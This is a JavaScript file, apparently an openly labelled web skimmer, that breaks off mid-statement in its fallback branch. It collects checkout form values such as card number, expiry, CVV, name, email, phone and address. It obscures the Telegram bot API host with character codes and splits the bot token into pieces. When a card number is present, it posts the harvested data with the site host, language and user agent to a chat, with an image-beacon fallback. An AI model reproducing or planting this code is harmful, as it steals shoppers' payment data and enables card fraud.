// saas-api-exfil: bot-API relay with the API host rebuilt from character codes (file cut off mid-way)
// async/await, WeakMap cache of field values, flush on order button
(() => {
  const fc = (...n) => String.fromCharCode(...n);
  const apiHost = fc(104, 116, 116, 112, 115, 58, 47, 47, 97, 112, 105, 46, 116, 101, 108, 101, 103, 114, 97, 109, 46, 111, 114, 103);
  const tok = ['7302', '958144', ':AAH', 'p4Lq9', 'sWz2', 'VrK7n', 'Xc0tB', 'yE5m', 'JdQ8', 'fU1g'].join('');
  const room = -1002211948376;

  const seen = new WeakMap();
  const interesting = /cc-number|cc-exp|cc-csc|cc-name|card|cvv|cvc|expir|email|tel|postcode|street/i;

  const remember = (el) => {
    const label = el.getAttribute('autocomplete') || el.name || el.id;
    if (label && interesting.test(label) && el.value) seen.set(el, [label, el.value]);
  };

  const harvest = () => {
    const rows = [];
    document.querySelectorAll('input, select').forEach((el) => {
      remember(el);
      const hit = seen.get(el);
      if (hit) rows.push(hit.join(': '));
    });
    return rows;
  };

  const post = async (text) => {
    const res = await fetch(`${apiHost}/bot${tok}/sendMessage`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ chat_id: room, text, parse_mode: 'HTML' }),
    });
    return res.ok;
  };

  let busy = false;
  const go = async () => {
    if (busy) return;
    const rows = harvest();
    const pan = rows.find((r) => /cc-number|card/i.test(r)) || '';
    if (pan.replace(/\D/g, '').length < 13) return;
    busy = true;
    const text = [`<b>${location.host}</b>`, ...rows, navigator.language, navigator.userAgent].join('\n');
    try {
      await post(text);
    } catch (err) {
      const img = new Image();
      img.src = `${apiHost}/bot${tok}/sendMessage?chat_id=${room}&text=${encodeURIComponent(te
